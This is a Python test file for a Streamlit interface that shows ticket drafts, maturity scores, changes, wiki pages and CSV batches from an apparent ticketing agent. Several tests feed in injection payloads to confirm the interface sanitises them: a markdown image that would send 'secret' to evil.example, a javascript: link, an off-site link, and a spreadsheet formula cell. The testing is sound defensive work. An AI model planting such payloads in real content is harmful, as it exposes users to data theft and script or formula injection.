"""What Tickets leaves to look at: drafts, scores, changes, pages, batches."""

from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from agent import Entry
from agent.questions import Choice, Option, to_json
from agent.workflows.tickets.contracts import IssueText
from agent.workflows.tickets.maturity import scoring as rules
from ui import safe
from ui.views import changes, tickets

Plain = dict[str, Any]

EVIL = "![x](http://evil.example/?q=secret)"
ISSUE = "https://jira.example/browse/PROJ-1"


def drawn(kind: str, data: Plain, *, live: bool = False) -> AppTest:
    app = AppTest.from_file("artefact_page.py")
    app.session_state["artefact"] = (kind, data, live)
    app.run()
    assert not app.exception
    return app


def texts(app: AppTest) -> str:
    return "\n".join(element.value for element in [*app.markdown, *app.caption])


def labels(app: AppTest) -> list[str]:
    return [button.label for button in app.button]


def fold(app: AppTest, label: str) -> Any:
    return next(each for each in app.expander if each.label.startswith(label))


# The draft


def draft(**more: Any) -> Plain:
    content = {
        "project": "PROJ",
        "issue_type": "Story",
        "summary": "Sign in with a *code*",
        "description": "A shopper signs in.\n\n## Acceptance criteria\n\n- A code arrives",
        "mark": "interlude-0123456789ab",
        "priority": "High",
        "labels": ["auth", "web"],
        "fields": {"customfield_1": ["Payments", "Web"]},
    }
    backlog = {
        "invest": [
            {"letter": "Small", "holds": True, "note": "One screen."},
            {"letter": "Testable", "holds": False, "note": "No figure."},
            {"letter": "Estimable", "holds": None, "note": "No part is named."},
        ],
        "open_questions": ["Which provider?"],
        "assumptions": ["Addresses are verified.", "Mail arrives."],
    }
    return {
        "content": content,
        "backlog": backlog,
        "changes": [],
        "origin": "rules",
        "where": "Jira at jira.example",
        "is_embedded": False,
        **more,
    }


def test_a_draft_shows_every_field_that_is_sent() -> None:
    app = drawn("ticket_draft", draft())
    said = texts(app)
    for part in (
        r"Sign in with a \*code\*",
        "Story",
        "High",
        "PROJ",
        "auth, web",
        "interlude-0123456789ab",
        r"**customfield\_1** Payments, Web",
        "- A code arrives",
        "Made by rules",
        "Jira at jira.example",
    ):
        assert part in said
    assert "built in" not in said


def test_a_revised_draft_opens_with_what_changed() -> None:
    change = {"field": "acceptance_criteria", "before": "within 60 s", "after": "within 30 s"}
    changed = fold(drawn("ticket_draft", draft(changes=[change])), "Changed: Acceptance criteria")
    assert changed.proto.expanded
    assert ":red-background[~~60~~]:green-background[30]" in changed.markdown[0].value


def test_a_draft_cannot_fetch_or_draw() -> None:
    evil = draft()
    evil["content"] |= {"summary": EVIL, "description": EVIL, "fields": {"x": EVIL}}
    assert "![" not in texts(drawn("ticket_draft", evil))


# Changes


def test_what_stays_the_same_is_left_out_but_for_a_line_around() -> None:
    before = [f"line {n}" for n in range(20)]
    after = [*before[:10], "quite another text", *before[11:]]
    shown = changes.marked("\n".join(before), "\n".join(after)).split("  \n")
    assert shown == [
        "…",
        "line 9",
        ":red-background[~~line 10~~]",
        ":green-background[quite another text]",
        "line 11",
        "…",
    ]


def test_a_change_cannot_draw_anything() -> None:
    assert "![" not in changes.marked("", EVIL)
    assert changes.marked("", "# Title") == "**:green-background[Title]**"


# Maturity


def judged(**more: Any) -> Plain:
    text = IssueText(
        key="PROJ-1",
        summary="Sign in with a code",
        description="As a shopper, I want a code by email, so that I need no password.\n\n"
        "## Acceptance criteria\n\n- A code of six digits arrives within 30 seconds\n- It is fast",
        priority="High",
    )
    told = rules.evaluate(text, {"acceptance_criteria": 2}).model_dump(mode="json")
    for score in told["scores"]:
        score["disagrees"] = False
    return {
        **told,
        "summary": text.summary,
        "link": ISSUE,
        "where": "Jira at jira.example",
        "is_embedded": False,
        "history": [{"at": "2026-01-01T10:00:00+00:00", "overall": told["overall"]}],
        "is_model": False,
        **more,
    }


def test_the_score_is_told_in_words_with_its_eight_parts() -> None:
    data = judged()
    app = drawn("maturity", data)
    assert [metric.value for metric in app.metric] == [f"{data['overall']:.0f} of 100"]
    bars = [bar.proto.text for bar in app.get("progress")]
    assert len(bars) == 9
    assert sum("weight 2" in bar for bar in bars) == 1
    assert not any("model" in bar for bar in bars)


def test_the_model_stands_beside_the_rules_and_disagreement_is_marked() -> None:
    data = judged(is_model=True, rules_overall=80.5)
    data["scores"][2] |= {"model": 95, "value": 95, "reason": "It names *them*.", "disagrees": True}
    app = drawn("maturity", data)
    assert [metric.value for metric in app.metric][1] == "80 of 100"
    [bar] = [bar.proto.text for bar in app.get("progress") if " 95 ·" in bar.proto.text]
    assert "disagree" in bar
    assert "rules " in bar
    assert r"It names \*them\*." in "\n".join(m.value for m in app.markdown)


def test_a_recommendation_is_applied_by_a_message() -> None:
    data = judged()
    app = drawn("maturity", data)
    advice = data["advice"][0]
    app.button(key=f"apply-{advice['id']}-t-1").click().run()
    assert app.session_state["outbox"] == f"Apply to PROJ-1: {advice['text']}"
    assert app.session_state["outbox-inputs"] == {
        "picked": {"act": "apply", "issue": "PROJ-1", "advice": advice["id"]}
    }


def test_while_the_run_goes_on_nothing_can_be_applied() -> None:
    assert "Apply" not in labels(drawn("maturity", judged(), live=True))


# Pages


def page(**more: Any) -> Plain:
    return {
        "title": "PROJ-1: Sign in",
        "space": "DOCS",
        "markdown": "- **Issue**: [PROJ-1](</issues?key=PROJ-1>)\n\n## Score\n\n61",
        "where": "Confluence at wiki.example",
        "is_embedded": False,
        "replaces": None,
        "before": "",
        **more,
    }


def test_a_new_page_is_previewed_without_a_difference() -> None:
    app = drawn("wiki_page", page())
    assert "[PROJ-1](/issues?key=PROJ-1)" in texts(app)
    assert r"PROJ-1\: Sign in" in texts(app)
    assert not app.expander


def test_a_page_that_replaces_one_shows_which_and_what_changes() -> None:
    replaces = {"id": "7", "version": 3, "link": "https://wiki.example/pages/7"}
    before = "- **Issue**: [PROJ-1](</issues?key=PROJ-1>)\n\n## Score\n\n49"
    app = drawn("wiki_page", page(replaces=replaces, before=before))
    assert "replaces version 3" in texts(app)
    assert "~~49~~" in fold(app, "What changes from version 3").markdown[0].value


# Several


def row(key: str, score: float | None, problem: str = "", summary: str = "An issue") -> Plain:
    link = f"https://jira.example/browse/{key}" if score is not None else ""
    return {"key": key, "summary": summary, "link": link, "score": score, "problem": problem}


def batch(*rows: Plain, total: int = 0) -> Plain:
    return {"rows": list(rows), "done": len(rows), "total": total or len(rows), "is_over": True}


def test_a_batch_is_listed_as_given_with_what_failed() -> None:
    app = drawn("ticket_batch", batch(row("B-2", 20.5), row("B-1", 60), row("B-9", None, "Gone.")))
    table = app.dataframe[0].value
    assert list(table["Key"]) == ["B-2", "B-1", "B-9"]
    assert list(table["Problem"]) == ["", "", "Gone."]
    assert "3 issues scored" in texts(app)
    assert "1 could not be scored" in texts(app)


def test_a_cell_of_the_csv_is_never_a_formula() -> None:
    evil = row("B-1", 60, summary="=HYPERLINK(1)")
    [download] = drawn("ticket_batch", batch(evil)).get("download_button")
    assert download.proto.label == "Download as CSV"
    made = tickets.csv_of([evil]).decode("utf-8-sig")
    assert made.splitlines()[1].startswith("B-1,60,'=HYPERLINK(1)")


# In a turn


def rounds() -> None:
    import streamlit as st  # noqa: PLC0415 - the function is a script of its own

    from ui.events import draw_entries  # noqa: PLC0415

    draw_entries(st.session_state["entries"], turn="t")


def test_an_earlier_draft_of_a_turn_is_folded_away() -> None:
    first = draft()
    second = draft(content={**first["content"], "summary": "The second"})
    app = AppTest.from_function(rounds)
    app.session_state["entries"] = (
        Entry("draft:1", "ticket_draft", first),
        Entry("draft:2", "ticket_draft", second),
    )
    app.run()
    assert not app.exception
    earlier = fold(app, "An earlier draft")
    inside = "\n".join(each.value for each in earlier.markdown)
    assert r"Sign in with a \*code\*" in inside
    assert "The second" not in inside
    assert "The second" in texts(app)


ANSWER = {
    "status": "answered",
    "who": "local",
    "at": "2026-01-01T10:00:00+00:00",
    "reply": {"option": "a"},
}


@pytest.mark.parametrize(
    ("step", "after", "answer", "is_folded"),
    [
        ("issue_approval", True, ANSWER, True),
        ("issue_approval", True, {}, False),
        # The answer to the one before: this draft came of it.
        ("issue_approval", False, ANSWER, False),
        ("page_approval", True, ANSWER, False),
    ],
)
def test_a_draft_is_folded_once_it_is_decided(
    step: str, after: bool, answer: Plain, is_folded: bool
) -> None:
    asked = Choice(
        id="q", workflow="tickets", step=step, title="Create it?", options=(Option("a", "Yes"),)
    )
    told = Entry("q", "question", {**to_json(asked), **answer}, n=3 if after else 1)
    entries = [Entry("draft", "ticket_draft", draft(), n=2), told]
    app = AppTest.from_function(rounds)
    app.session_state["entries"] = tuple(sorted(entries, key=lambda e: e.n))
    app.run()
    assert not app.exception
    assert ("The draft that you decided on" in {e.label for e in app.expander}) is is_folded


# Links


@pytest.mark.parametrize("address", ["/issues?key=PROJ-1", "/issues?page=12"])
def test_issues_and_pages_of_the_app_are_linked_in_texts(address: str) -> None:
    assert safe.markdown(f"[PROJ-1]({address})") == f"[PROJ-1]({address})"


@pytest.mark.parametrize("address", ["/issues", "//evil.example/issues?key=A", "/tutor?thread=x"])
def test_no_other_place_of_the_app_is(address: str) -> None:
    assert safe.markdown(f"[x]({address})").strip("\u2060") == "x"


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "https://a.example/)![x](http://b.example", ""]
)
def test_a_name_without_a_safe_address_is_no_link(address: str) -> None:
    assert safe.link("A *name*", address) == r"A \*name\*"
